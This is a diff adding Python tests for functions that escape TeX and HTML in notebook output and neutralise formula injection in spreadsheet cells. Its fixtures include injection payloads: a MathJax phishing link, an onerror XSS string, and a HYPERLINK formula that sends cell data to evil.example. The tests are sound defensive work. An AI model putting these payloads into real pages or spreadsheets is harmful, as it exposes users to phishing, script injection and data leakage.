@@ -8,6 +8,7 @@ checks, by reading the package's source, that no other formatter is left.
 from __future__ import annotations
 
 import datetime as dt
+import html
 import math
 import re
 from pathlib import Path
@@ -18,6 +19,7 @@ import pytest
 
 from collective_impact.i18n import catalogue
 from collective_impact.i18n.format import (
+    escape,
     format_count,
     format_date,
     format_month,
@@ -26,6 +28,7 @@ from collective_impact.i18n.format import (
     format_short_date,
     format_time,
     parse_decimal,
+    spreadsheet_text,
 )
 
 N = "\u202f"  # narrow no-break space: French thousands, and before "%"
@@ -194,6 +197,61 @@ def test_parse_decimal_blank(typed):
 def test_parse_decimal_refuses(typed):
     with pytest.raises(ValueError, match="number"):
         parse_decimal(typed)
+
+
+# ---------------------------------------------------------------------------- escaping
+
+# What MathJax (run by JupyterLab and Voila over Markdown and HTML outputs) typesets: a
+# pair of "$", or "\(", "\[", "\begin{" with processEscapes/processEnvironments on. It
+# looks within one run of text; a tag ends the run.
+_TEX_START = re.compile(r"\$[^$]*\$|\\[(\[]|\\begin\s*\{")
+PAYLOADS = ["$\\href{https://evil.example/phish}{x}$", "\\style{color:red}{x}", "$$x$$", "\\(x\\)", "\\[x\\]",
+            "\\begin{equation}x\\end{equation}", "Taux $\\foo{x}$", "\\$x\\$", "a\\\\b"]
+
+
+def _runs(page: str) -> list[str]:
+    """The runs of text a browser would show between tags, entities decoded."""
+    return [html.unescape(run) for run in re.split(r"<[^>]*>", page)]
+
+
+@pytest.mark.parametrize("text", ["Quartier Nord", "L'Île-Saint-Denis", "Association « Vivre ensemble » 93",
+                                  "Café des parents (école Jaurès)", "12,5 %"])
+def test_escape_leaves_ordinary_text_as_it_is(text):
+    assert escape(text) == text
+    assert escape(text, markdown=False) == text
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("markdown", [True, False])
+def test_escape_leaves_no_tex_for_mathjax(payload, markdown):
+    from nbconvert.filters.markdown_mistune import markdown2html_mistune
+
+    escaped = escape(payload, markdown=markdown)
+    # the source that JupyterLab's math extraction and the Markdown renderer read: no "$", no backslash of the data
+    assert "$" not in escaped
+    assert not re.search(r"\\(?![`*_\[\]{}|~#!:])", escaped)  # only the backslashes of Markdown escapes
+    page = markdown2html_mistune(escaped) if markdown else escaped
+    runs = _runs(page)
+    assert not [run for run in runs if _TEX_START.search(run)]
+    assert "".join(runs).strip() == payload  # the reader sees the text as typed
+
+
+def test_escape_in_html_writes_no_markdown_escape():
+    assert escape("*a* [b] $c$ \\d", markdown=False) == (
+        "*a* [b] <span>&#36;</span>c<span>&#36;</span> <span>&#92;</span>d")
+    assert escape("<img src=x onerror=alert(1)>", markdown=False) == "&lt;img src=x onerror=alert(1)&gt;"
+    assert escape(None, markdown=False) == "—"
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    ('=HYPERLINK("http://evil.example/?x="&A1,"x")', '\'=HYPERLINK("http://evil.example/?x="&A1,"x")'),
+    ("+33 1 23", "'+33 1 23"), ("-A1", "'-A1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\r=1", "'\r=1"),
+    ("Quartier = Nord", "Quartier = Nord"), ("", ""), ("'=déjà", "'=déjà"),
+    (-3.5, -3.5), (-2, -2), (None, None),
+])
+def test_spreadsheet_text(value, expected):
+    assert spreadsheet_text(value) == expected
+    assert type(spreadsheet_text(value)) is type(expected)
 
 
 # ---------------------------------------------------------------------------- one formatter
